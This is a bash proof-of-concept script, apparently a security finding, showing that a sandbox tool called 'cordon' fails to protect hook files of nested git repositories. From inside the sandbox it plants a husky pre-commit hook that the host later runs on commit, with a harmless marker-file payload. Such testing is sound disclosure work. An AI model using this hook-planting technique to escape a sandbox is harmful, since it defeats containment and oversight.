#!/bin/bash
# Finding: hook-runner configs (husky .husky/*, pre-commit, lefthook) and command-valued config keys of a
# NESTED repository under the workdir are not protected: gitrepo.lua discovers only the repository the
# workdir belongs to (walking up), never one below it. Husky 9's stub in .git-hooksPath runs .husky/pre-commit.
# Usage: CORDON=/path/to/build/cordon findings/nested-repo-hook-runner.sh   (as root or any user)
set -u
CORDON=${CORDON:-$(pwd)/build/cordon}
B=$(mktemp -d /var/tmp/atk.XXXXXX); chmod 755 "$B"
export HOME=$B/home; mkdir -p "$HOME"
W=$B/w; mkdir -p "$W"
git config --global user.email a@b; git config --global user.name a
git config --global init.defaultBranch main
# host: an outer repo (the workdir) and an inner repo using husky 9 (hooksPath .husky/_)
git -C "$W" init -q
mkdir -p "$W/inner"; git -C "$W/inner" init -q
mkdir -p "$W/inner/.husky/_"
cat > "$W/inner/.husky/_/h" <<'H'
#!/bin/sh
# husky 9's runner, in essence: run .husky/<hook name> if it exists
n=$(basename "$0"); s=$(dirname "$(dirname "$0")")/$n
[ -f "$s" ] || exit 0
exec sh -e "$s" "$@"
H
printf '#!/usr/bin/env sh\n. "$(dirname "$0")/h"\n' > "$W/inner/.husky/_/pre-commit"
chmod +x "$W/inner/.husky/_/h" "$W/inner/.husky/_/pre-commit"
git -C "$W/inner" config core.hooksPath .husky/_
echo x > "$W/inner/f"; git -C "$W/inner" add f
MARK=$B/MARKER-outside
# inside the sandbox (default workspace-write, workdir $W): plant .husky/pre-commit in the nested repo
cd "$W"
"$CORDON" run -- sh -c "printf '#!/bin/sh\necho pwned > $MARK\n' > inner/.husky/pre-commit && echo planted"
# host, later: an ordinary commit in the nested repository
git -C "$W/inner" commit -qm one >/dev/null 2>&1
if [ -e "$MARK" ]; then echo "ESCAPE: host's git commit ran the sandbox's .husky/pre-commit ($MARK)"; rc=1; else echo "held"; rc=0; fi
rm -rf "$B"; exit $rc
